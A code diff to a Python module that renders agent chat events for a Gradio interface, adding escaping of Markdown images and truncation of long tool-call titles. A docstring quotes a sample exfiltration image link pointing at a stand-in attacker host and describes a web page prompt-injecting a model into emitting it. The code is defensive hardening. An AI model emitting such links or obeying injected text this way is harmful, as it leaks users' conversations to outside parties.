@@ -1,8 +1,9 @@
 """Agent events -> chat messages for the Gradio `Chatbot`, as plain dicts (no gradio import, easy to test).
 
 Model text and tool results are data from outside: everything shown is made inert here. HTML is escaped outside
-Markdown code, and tool results go in a fenced code block whose fence is longer than any backtick run inside it, so a
-result can neither close the fence nor inject markup.
+Markdown code, Markdown images are defused (they would load by themselves), and tool results go in a fenced code
+block whose fence is longer than any backtick run inside it, so a result can neither close the fence nor inject
+markup.
 """
 
 from __future__ import annotations
@@ -48,11 +49,18 @@ def inert_markdown(text: str) -> str:
 def _escape_outside_inline_code(line: str) -> str:
     parts, last = [], 0
     for match in _INLINE_CODE.finditer(line):
-        parts.append(escape_text(line[last:match.start()]))
+        parts.append(_inert(line[last:match.start()]))
         parts.append(match.group(0))
         last = match.end()
-    parts.append(escape_text(line[last:]))
+    parts.append(_inert(line[last:]))
     return "".join(parts)
+
+
+def _inert(text: str) -> str:
+    """HTML escaped, and no Markdown image: an image loads by itself, so a model talked into writing
+    `![](https://evil.example/?q=<the chat>)` by a web page would send the conversation away. `!\\[` shows as written.
+    """
+    return escape_text(text).replace("![", "!\\[")
 
 
 def code_block(text: str, language: str = "") -> str:
@@ -90,9 +98,16 @@ def inline_code(text: str) -> str:
     return f"{fence}{pad}{text}{pad}{fence}"
 
 
+MAX_TITLE_CHARS = 200
+
+
 def tool_call_title(call) -> str:
-    """The call as the model wrote it, in code style: `get_current_weather(location="Oslo")`."""
-    return "🔧 " + inline_code(call.to_python())
+    """The call as the model wrote it, in code style: `get_current_weather(location="Oslo")` (a 10k-character
+    argument is cut: the whole call is in the model's reply, the title only has to say which tool ran)."""
+    text = call.to_python()
+    if len(text) > MAX_TITLE_CHARS:
+        text = text[:MAX_TITLE_CHARS] + "…"
+    return "🔧 " + inline_code(text)
 
 
 def tool_pending_message(event: ToolCallStarted, turn_id: str) -> dict[str, Any]:
